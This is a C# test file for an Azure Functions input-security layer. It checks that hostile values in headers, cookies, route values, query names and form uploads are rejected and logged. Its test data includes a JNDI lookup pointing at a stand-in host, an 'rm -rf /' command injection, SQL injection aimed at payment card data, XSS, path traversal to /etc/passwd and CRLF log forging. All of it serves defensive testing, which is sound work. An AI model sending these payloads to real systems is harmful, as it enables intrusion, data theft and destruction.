using ServerlessShield.AzureFunctions.Tests.FakeHost;
using ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc;
using Status = ServerlessShield.AzureFunctions.Tests.FakeHost.Rpc.StatusResult.Types.Status;

namespace ServerlessShield.AzureFunctions.Tests.Pipeline;

/// <summary>HTTP inputs besides the body and query: selected headers, cookies and route values, through the real worker.</summary>
public sealed class HttpInputsTests(HostBuilderWorkerFixture worker) : IClassFixture<HostBuilderWorkerFixture>
{
    [Theory]
    [InlineData("User-Agent", "${jndi:ldap://evil.example/a}", "SHIELD1009", "headers.User-Agent")]
    [InlineData("Referer", "https://shop.example/?q=<script>alert(1)</script>", "SHIELD1003", "headers.Referer")]
    [InlineData("X-Forwarded-For", "10.0.0.1; rm -rf /", "SHIELD1004", "headers.X-Forwarded-For")]
    [InlineData("X-Tenant-Note", "' OR '1'='1", "SHIELD1001", "headers.X-Tenant-Note")]
    public async Task InspectedHeader_Malicious_Returns400AndNamesTheHeader(string header, string value, string rule, string fieldPath)
    {
        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { [header] = value });

        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
        var finding = Assert.Single(SecurityEventLog.Of(response.InvocationId), e => e.RuleId == rule);
        Assert.Equal(fieldPath, finding.FieldPath, ignoreCase: true);
    }

    [Theory]
    [InlineData("Authorization", "Bearer <script>alert(1)</script>")]
    [InlineData("X-Functions-Key", "<script>alert(1)</script>")]
    [InlineData("X-MS-Client-Principal-Name", "<script>alert(1)</script>")]
    [InlineData("Accept", "<script>alert(1)</script>")]
    public async Task CredentialPlatformAndOrdinaryHeaders_AreNotInspected(string header, string value)
    {
        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { [header] = value });

        Assert.Equal(200, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Empty(SecurityEventLog.Of(response.InvocationId));
    }

    // The host routes every request by the function's route template: the caller's part of the URL path is the route
    // values. The path itself is not an input (a path no route matches never reaches the worker; the fake host here does
    // not route, so these reach the function and show that the path is not read twice).
    [Theory]
    [InlineData("Echo/..%2f..%2f..%2fhome%2fsite%2fwwwroot%2fhost.json", null, 200, null)]
    [InlineData("hardened/7", "../../../home/site/wwwroot/host.json", 400, "route.id")]
    public async Task UrlPath_IsNotAnInput_TheRouteValuesAre(string path, string? routeValue, int status, string? fieldPath)
    {
        var function = routeValue is null ? "Echo" : "HardenedHttp";
        var response = await worker.InvokeHttpAsync(function, "hi", path: path,
            routeValues: routeValue is null ? null : new Dictionary<string, string> { ["id"] = routeValue });

        Assert.Equal(status, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Equal(fieldPath, SecurityEventLog.Of(response.InvocationId).SingleOrDefault()?.FieldPath);
    }

    [Fact]
    public async Task CookieValue_Malicious_Returns400AndNamesTheCookie()
    {
        var response = await worker.InvokeHttpAsync("Echo", "hi", headers: new Dictionary<string, string> { ["Cookie"] = "session=abc123; pref=' OR '1'='1" });

        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Equal("cookies.pref", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
    }

    // Regression (found by the worker fuzz tests): query parameter and cookie names are the client's, and went into field
    // paths, so into log lines and security events, as sent: any length, line breaks included. Now they are cut down the
    // way JSON keys are: printable ASCII, at most 64 characters.
    [Fact]
    public async Task ClientChosenQueryAndCookieNames_ReachFieldPathsAsShortPrintableAscii()
    {
        var name = "evil\r\nForged: log line " + new string('n', 80);

        var response = await worker.InvokeHttpAsync("Echo", "hi", query: "?" + Uri.EscapeDataString(name) + "=" + Uri.EscapeDataString("' OR '1'='1"),
            headers: new Dictionary<string, string> { ["Cookie"] = name + "=<script>alert(1)</script>" });

        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
        var events = SecurityEventLog.Of(response.InvocationId);
        Assert.Equal(["cookies.", "query."], events.Select(e => e.FieldPath![..(e.FieldPath!.IndexOf('.', StringComparison.Ordinal) + 1)]).Order(StringComparer.Ordinal));
        Assert.All(events, e => Assert.Matches(@"^(cookies|query)\.evil\?\?Forged: log line n{41}…$", e.FieldPath));
    }

    // A form upload is read part by part, through the real worker: each part's content and file name under its own path.
    [Theory]
    [InlineData("Q3 figures", "report.csv", 200, null)]
    [InlineData("Q3 figures", "../../../home/site/wwwroot/host.json", 400, "body.attachment.filename")]
    [InlineData("' OR '1'='1", "report.csv", 400, "body.title")]
    public async Task MultipartUpload_IsReadPartByPart(string title, string fileName, int status, string? fieldPath)
    {
        const string boundary = "----FormBoundaryAz7";
        var body = $"--{boundary}\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{title}\r\n"
            + $"--{boundary}\r\nContent-Disposition: form-data; name=\"attachment\"; filename=\"{fileName}\"\r\nContent-Type: text/csv\r\n\r\n"
            + $"region,total\r\nnorth,1200\r\n--{boundary}--\r\n";

        var response = await worker.InvokeHttpAsync("HardenedHttp", body, contentType: "multipart/form-data; boundary=" + boundary,
            routeValues: new Dictionary<string, string> { ["id"] = "7" }, path: "hardened/7");

        Assert.Equal(status, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Equal(fieldPath, SecurityEventLog.Of(response.InvocationId).SingleOrDefault()?.FieldPath);
    }

    [Fact]
    public async Task RouteValue_Allowed_ReachesTheFunction()
    {
        var response = await InvokeOrderAsync("42");

        Assert.Equal(Status.Success, response.Result.Status);
        Assert.Equal("order:42", HttpResult.FromReturnValue(response).Body);
    }

    [Fact]
    public async Task RouteValue_Malicious_Returns400AndNamesTheRouteParameter()
    {
        var response = await InvokeOrderAsync("42' UNION SELECT card FROM payments --");

        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Equal("route.id", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
    }

    [Fact]
    public async Task CatchAllRouteValue_Malicious_IsInspectedToo()
    {
        var response = await InvokeOrderAsync("42", rest: "../../etc/passwd");

        Assert.Equal(400, HttpResult.FromReturnValue(response).StatusCode);
        Assert.Equal("route.rest", Assert.Single(SecurityEventLog.Of(response.InvocationId)).FieldPath);
    }

    private Task<InvocationResponse> InvokeOrderAsync(string id, string rest = "details")
    {
        var route = new Dictionary<string, string> { ["id"] = id, ["rest"] = rest };
        return worker.InvokeHttpAsync("GetOrder", string.Empty, method: "GET", routeValues: route, path: "orders/" + Uri.EscapeDataString(id) + "/" + rest);
    }
}
